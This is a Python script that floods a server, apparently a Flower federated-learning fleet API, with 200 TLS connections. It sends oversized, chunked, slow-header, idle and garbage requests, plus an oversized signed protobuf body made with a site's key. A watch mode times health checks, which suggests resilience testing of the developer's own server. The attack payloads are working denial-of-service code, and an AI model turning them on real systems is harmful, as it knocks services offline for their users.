"""200 connections that flood a server, by a stranger or with a site's key, and the server's health meanwhile.

python flood.py ADDRESS SECONDS [KEY]     sends, and prints how often each kind connected
python flood.py ADDRESS SECONDS watch     prints the seconds that each GET /health took
"""

import os
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from http.client import HTTPSConnection
from pathlib import Path
from typing import Any

Kind = Callable[[], Iterator[bytes]]
PORT, NUM_CONNECTIONS, NUM_OF_SITE = 8000, 200, 30  # a site is cut off above 32
PULL = "/v1/fleet/pull-messages"
MIB = 2**20
PART = os.urandom(MIB // 4)
TRUSTING = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TRUSTING.check_hostname, TRUSTING.verify_mode = False, ssl.CERT_NONE


def long_body() -> Iterator[bytes]:
    yield f"POST {PULL} HTTP/1.1\r\nHost: x\r\nContent-Length: {512 * MIB}\r\n\r\n".encode()
    yield from (PART for _ in range(512 * MIB // len(PART)))


def chunked_body() -> Iterator[bytes]:
    yield f"POST {PULL} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    yield from (b"%x\r\n%b\r\n" % (len(PART), PART) for _ in range(512 * MIB // len(PART)))


def long_header() -> Iterator[bytes]:
    yield b"GET /health HTTP/1.1\r\nX: "
    yield from (b"x" * len(PART) for _ in range(64 * MIB // len(PART)))


def slow_header() -> Iterator[bytes]:
    yield b"GET /health HTTP/1.1\r\nX: "
    for _ in range(100):
        time.sleep(0.5)
        yield b"x"


def idle() -> Iterator[bytes]:
    yield b""


def garbage() -> Iterator[bytes]:
    yield from (PART for _ in range(100))


def signed_body(signs: Any, body: bytes) -> Iterator[bytes]:
    """What a site may send, which Flower refuses late: from no node, in a field that it does not know."""
    import httpx
    from flwr.proto.fleet_pb2 import PullMessagesRequest
    from flwr.supercore.protobuf.client import ProtobufRequestContext

    request = httpx.Request("POST", f"https://x{PULL}", content=body, headers={"content-type": "application/protobuf"})
    context = ProtobufRequestContext(PULL, PullMessagesRequest(), request)
    signs.intercept(context, lambda context: httpx.Response(200))
    headers = "".join(f"{name}: {value}\r\n" for name, value in request.headers.items())
    yield f"POST {PULL} HTTP/1.1\r\n{headers}\r\n".encode()
    yield from (body[at : at + len(PART)] for at in range(0, len(body), len(PART)))


def signed(key: Path) -> Kind:
    from fedsign.flower.signatures import SignedRequests
    from simulations.deployment.keys import load_private

    private = load_private(key)
    length = 32 * MIB - 16
    sizes = [length & 127 | 128, length >> 7 & 127 | 128, length >> 14 & 127 | 128, length >> 21]
    return partial(
        signed_body, SignedRequests(private, private.public_key()), b"\x9a\x06" + bytes(sizes + [0] * length)
    )


def attack(host: str, name: str, kind: Kind, until: float, connected: Counter[str]) -> None:
    """Connect, send, and connect again."""
    while time.monotonic() < until:
        with (
            suppress(OSError, ValueError),  # the server hangs up, also during the handshake
            TRUSTING.wrap_socket(socket.create_connection((host, PORT), 10)) as connection,
        ):
            connected[name] += 1
            for part in kind():
                connection.sendall(part)
                if time.monotonic() > until:
                    return
            connection.recv(MIB)


def watch(host: str, until: float) -> None:
    while time.monotonic() < until:
        began_at = time.monotonic()
        connection = HTTPSConnection(host, PORT, timeout=30, context=TRUSTING)
        connection.request("GET", "/health")
        assert connection.getresponse().status == 200
        connection.close()
        print(f"{time.monotonic() - began_at:.3f}", flush=True)
        time.sleep(0.1)


def main(host: str, seconds: str, *more: str) -> None:
    until = time.monotonic() + float(seconds)
    if more == ("watch",):
        watch(host, until)
        return
    os.nice(19)  # a machine of its own would not take the server's cores
    kinds: dict[str, Kind] = {
        kind.__name__: kind for kind in (long_body, chunked_body, long_header, slow_header, idle, garbage)
    }
    if more:
        kinds = {"signed": signed(Path(more[0]))}
    connected: Counter[str] = Counter()
    threads = [
        threading.Thread(target=attack, args=[host, name, kind, until, connected])
        for name, kind in list(kinds.items()) * ((NUM_OF_SITE if more else NUM_CONNECTIONS) // len(kinds) + 1)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(dict(connected))


if __name__ == "__main__":
    main(*sys.argv[1:])
